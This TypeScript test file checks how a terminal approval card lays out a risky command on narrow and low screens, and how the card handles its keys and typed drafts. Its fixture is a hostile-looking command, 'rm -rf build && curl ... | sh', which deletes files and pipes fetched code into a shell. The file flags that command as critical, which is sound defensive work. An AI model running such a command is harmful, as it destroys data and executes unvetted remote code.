/** Tests what of a card is in sight, also on a low and narrow screen. */

import { stripVTControlCharacters } from "node:util";
import { expect, test } from "vitest";
import { styleFor } from "../../view/style.ts";
import type { CallQuestion, Card } from "../card.ts";
import { keyBindings } from "../input/key-bindings.ts";
import type { PressedKey } from "../input/key.ts";
import { TextField } from "../input/text-field.ts";
import { styledWidth } from "../styled-rows.ts";
import { CardField } from "./card-field.ts";

const command = "rm -rf build && curl -s http://127.0.0.1:9/x | sh";
const from = command.indexOf("curl");
const fetches = "it runs what it fetches from the network";
const question: CallQuestion = {
  callId: "1",
  title: `Run ${command}`,
  because: fetches,
  risk: "critical",
  preview: command,
  command,
  culprit: { from, to: command.length, because: fetches },
  grant: "",
  scopes: ["once"],
  sandbox: { profile: "open", isOn: true, undo: "partly" },
};

const critical = (asked: Partial<CallQuestion> = {}): Card => ({
  content: { type: "approval", question: { ...question, ...asked } },
  offers: [
    { key: "y", words: "once", answer: "y", needs: "enter" },
    { key: "e", words: "edit the command", answer: "e" },
    { key: "n", words: "no, and why", answer: "n", needs: "words" },
  ],
  prompt: "",
});

function bound(settings: Parameters<typeof keyBindings>[0] = {}) {
  const read = keyBindings(settings);
  if (!read.ok) throw new Error(read.problem);
  return read.value;
}
const bindings = bound();
const pressed = (text: string): PressedKey => ({
  type: "key",
  name: text,
  text,
  ctrl: false,
  alt: false,
  shift: false,
});

const noDraft = new TextField();
const fieldOf = (card: Card, draft = noDraft): CardField =>
  new CardField(card, { bindings, now: -1_000, draft });
const seenIn = (field: CardField, columns: number, most: number): string =>
  field
    .rows({ style: styleFor({}, true), columns }, most)
    .rows.map((row) => stripVTControlCharacters(row).replaceAll("\u00A0", " ").trimEnd())
    .join("\n");

test("a command stands whole, with a rule under its gravest part, and what that does", () => {
  expect(seenIn(fieldOf(critical()), 100, 20)).toBe(
    [
      "? Run rm -rf build && curl -s http://127.0.0.1:9/x | sh",
      "                      ───────────────────────────────── runs what it fetches from the network",
      "  critical",
      "  it runs unrestricted: it may use the network and change files outside the workspace",
      "  Undo covers what it changes in the workspace as far as git has it, the command names it or it is",
      "    small.",
      " y ⏎ once   e edit the command   n no, and why   v view   esc no and stop",
    ].join("\n"),
  );
});

test("what a wider yes would cover stands whole, however narrow and low the screen is", () => {
  const grant =
    "commands that begin with `npm install --workspace packages/shop`, in packages/shop, given ~/.npmrc";
  const { offers, ...asked } = critical({ risk: "medium", grant, scopes: undefined });
  const wider = [
    { key: "t", words: "turn", answer: "t" },
    { key: "s", words: "session", answer: "s" },
  ];
  const card = { ...asked, offers: [...offers.slice(0, 1), ...wider, ...offers.slice(1)] };
  for (const columns of [30, 40, 60, 100])
    for (const most of [9, 14]) {
      const said = seenIn(fieldOf(card), columns, most).replaceAll(/\s+/gu, " ");
      expect(said).toContain(`s session: ${grant}`);
      for (const offer of ["y ⏎ once", "n no, and why", "v view", "esc no and stop"])
        expect(said).toContain(offer);
    }
});

test("what is marked keeps its rule in every row that it takes, and the words come below the last", () => {
  const rows = seenIn(fieldOf(critical()), 40, 20).split("\n");
  expect(rows.slice(0, 5)).toEqual([
    "? Run rm -rf build && curl -s",
    "                      ───────",
    "    http://127.0.0.1:9/x | sh",
    "    ─────────────────────────",
    "    runs what it fetches from the",
  ]);
});

test("a part is marked in a command of several lines as well, and invisible characters move no rule", () => {
  const preview = `# in src\nls \u200B&& ls\n${command}`;
  const start = preview.length - command.length;
  const asked = {
    title: "Run ls …",
    preview,
    place: { directory: "src" },
    culprit: { from: start + from, to: preview.length, because: fetches },
  };
  expect(
    seenIn(fieldOf(critical(asked)), 100, 20)
      .split("\n")
      .slice(0, 6),
  ).toEqual([
    "? Run ls …",
    "    # in src",
    "    ls ⟨U+200B⟩&& ls",
    "    rm -rf build && curl -s http://127.0.0.1:9/x | sh",
    "                    ───────────────────────────────── runs what it fetches from the network",
    "  critical",
  ]);
});

test.each([
  ["the whole command", { from: 0, to: command.length, because: fetches }],
  ["a place that the text does not have", { from: 4, to: 4_000, because: fetches }],
  ["no place", undefined],
])("nothing is marked where the reason stands at %s", (_, culprit) => {
  const { culprit: __, ...unmarked } = question;
  const card = critical();
  const asked = { ...card, content: { type: "approval", question: { ...unmarked, culprit } } } as const;
  const shown = seenIn(fieldOf(asked), 100, 20);
  expect(shown).not.toContain("─");
  expect(shown).toContain(`  critical: ${fetches}`);
});

test("a critical card says on 20 columns and 6 rows what is asked, how grave it is and how to say no", () => {
  expect(seenIn(fieldOf(critical()), 20, 5)).toBe(
    ["? Run rm -rf build", "    … 9 more rows", "  critical", " y ⏎ once   v view", " n no, and why"].join(
      "\n",
    ),
  );
});

test("on 40 columns and 10 rows it has all of its keys, and the rule is in sight", () => {
  expect(seenIn(fieldOf(critical()), 40, 8)).toBe(
    [
      "? Run rm -rf build && curl -s",
      "                      ───────",
      "    http://127.0.0.1:9/x | sh",
      "    … 3 more rows",
      "  critical",
      "  it runs unrestricted: it may use the",
      " y ⏎ once   v view   n no, and why",
      " esc no and stop   e edit the command",
    ].join("\n"),
  );
});

test("while the reason of a no is typed on a low screen, the card still says what is asked", () => {
  const field = fieldOf(critical());
  field.press(pressed("n"), 0);
  for (const letter of "too grave") field.press(pressed(letter), 0);
  expect(seenIn(field, 20, 5)).toBe(
    ["? Run rm -rf build", "  critical", " no, and why:", " too grave", " ⏎ answers   esc back"].join("\n"),
  );
});

test("everything that was left out is behind `v`, with every key", () => {
  const field = fieldOf(critical());
  expect(field.press(pressed("v"), 0)).toEqual({ type: "view" });
  const whole = field
    .whole({ style: styleFor({}, false), columns: 20 })
    .join(" ")
    .replaceAll(/[\s\u00A0─]+/gu, " ");
  expect(whole).toContain("runs what it fetches from the network");
  expect(whole).toContain("as far as git has it, the command names it or it is small.");
  expect(whole).toContain("e edit the command");
  expect(whole).toContain("esc no and stop");
});

test("a long diff keeps its title, its first reason and its keys, however low the screen is", () => {
  const diff = [
    "--- a/x",
    "+++ b/x",
    "@@ -0,0 +1,50 @@",
    ...Array.from({ length: 50 }, (_, at) => `+line ${at}`),
  ];
  const asked = { title: "Edit x", preview: diff.join("\n"), isDiff: true, risk: "medium" } as const;
  for (let most = 5; most < 30; most += 1) {
    const rows = seenIn(fieldOf(critical({ ...asked, because: "it changes files" })), 30, most).split("\n");
    expect(rows.length).toBeLessThanOrEqual(most);
    expect(rows[0]).toContain("? Edit x");
    expect(rows.join("\n")).toContain("medium: it changes");
    expect(rows.join("\n")).toContain("n no, and why");
    expect(rows.join("\n")).toMatch(/… .*\d+ more rows/u);
  }
});

test("a card is answered by the keys that were chosen, and names them", () => {
  const own = bound({ escape: "f9", send: "ctrl+s", down: "alt+n" });
  const field = new CardField(critical(), { bindings: own, now: -1_000, draft: noDraft });
  const shown = (): string => seenIn(field, 100, 20).split("\n").at(-1) ?? "";
  expect(shown()).toBe(" y ctrl+s once   e edit the command   n no, and why   v view   f9 no and stop");
  expect(field.press({ ...pressed("escape"), text: "" }, 0)).toEqual({ type: "stays" });
  expect(field.press({ ...pressed("f9"), text: "" }, 0)).toEqual({ type: "escape" });
  field.press(pressed("y"), 0);
  expect(shown()).toBe(" ctrl+s once   f9 back");
  expect(field.press({ ...pressed("s"), ctrl: true, text: "" }, 0)).toEqual({ type: "answer", line: "y" });
});

function writing(text: string): TextField {
  const field = new TextField();
  field.type(text);
  return field;
}
const named = (name: string): PressedKey => ({ ...pressed(""), name });

test.each([
  [80, 16, " your message: xnuse 111 instead   ⏎ sends it"],
  [40, 8, " your message: …11 instead   ⏎ sends it"],
  [26, 5, " your message: …1 instead"],
])("what is typed while a card of %i columns and %i rows stands is in its last row", (columns, most, row) => {
  const shown = seenIn(fieldOf(critical(), writing("xnuse 111 instead")), columns, most).split("\n");
  expect(shown.at(-1)).toBe(row);
  expect(shown.length).toBeLessThanOrEqual(most);
  expect(seenIn(fieldOf(critical()), columns, most)).not.toContain("your message");
});

test("a draft of many lines, wide characters or a paste takes one row that fits", () => {
  const draft = writing(`${"wide 漢字 👩‍👩‍👧 ".repeat(300)}\nlast`);
  draft.paste({ text: "pasted\n".repeat(9_000), isCut: false });
  const rows = fieldOf(critical(), draft).rows({ style: styleFor({}, false), columns: 60 }, 12).rows;
  expect(rows).toHaveLength(
    fieldOf(critical()).rows({ style: styleFor({}, false), columns: 60 }, 12).rows.length + 1,
  );
  expect(styledWidth(rows.at(-1) ?? "")).toBeLessThan(60);
  expect(rows.at(-1)).toMatch(/^ your message: ….*last.*⏎ sends it$/u);
});

test("Enter is for the draft only where the card has no use for it, and the row says so", () => {
  const draft = writing("wait");
  const field = fieldOf(critical(), draft);
  const last = (): string => seenIn(field, 80, 16).split("\n").at(-1) ?? "";
  field.press(pressed("y"), 0);
  expect(last()).toBe(" your message: wait");
  expect(field.press(named("escape"), 0)).toEqual({ type: "stays" });
  expect(last()).toBe(" your message: wait   ⏎ sends it");
  field.press(pressed("n"), 0);
  expect(last()).toBe(" your message: wait");
  field.press(named("escape"), 0);
  expect(field.press(named("enter"), 0)).toEqual({ type: "draft" });
  expect(fieldOf(critical()).press(named("enter"), 0)).toEqual({ type: "stays" });
});

test("what is pasted at a card, and Backspace while there is a draft, go to the draft", () => {
  const draft = new TextField();
  const paste = { type: "paste", text: "seen", isCut: false } as const;
  expect(fieldOf(critical(), draft).press(paste, 0)).toEqual({ type: "draft" });
  expect(fieldOf(critical(), draft).press(named("backspace"), 0)).toEqual({ type: "stays" });
  draft.paste(paste);
  expect(fieldOf(critical(), draft).press(named("backspace"), 0)).toEqual({ type: "draft" });
});

test("Esc is the answer of the offer that leads back, at once, and the row says so", () => {
  const card: Card = {
    content: { type: "lines", lines: ["a.txt · modified"] },
    offers: [
      { key: "y", words: "keep it", answer: "y" },
      { key: "q", words: "back", answer: "q", isBack: true },
    ],
    prompt: "",
  };
  expect(seenIn(fieldOf(card), 80, 10)).toContain("y keep it   q esc back   v view");
  const field = new CardField(card, { bindings, draft: new TextField(), now: 0 });
  expect(field.press({ ...pressed(""), name: "escape" }, 1)).toEqual({ type: "answer", line: "q" });
});
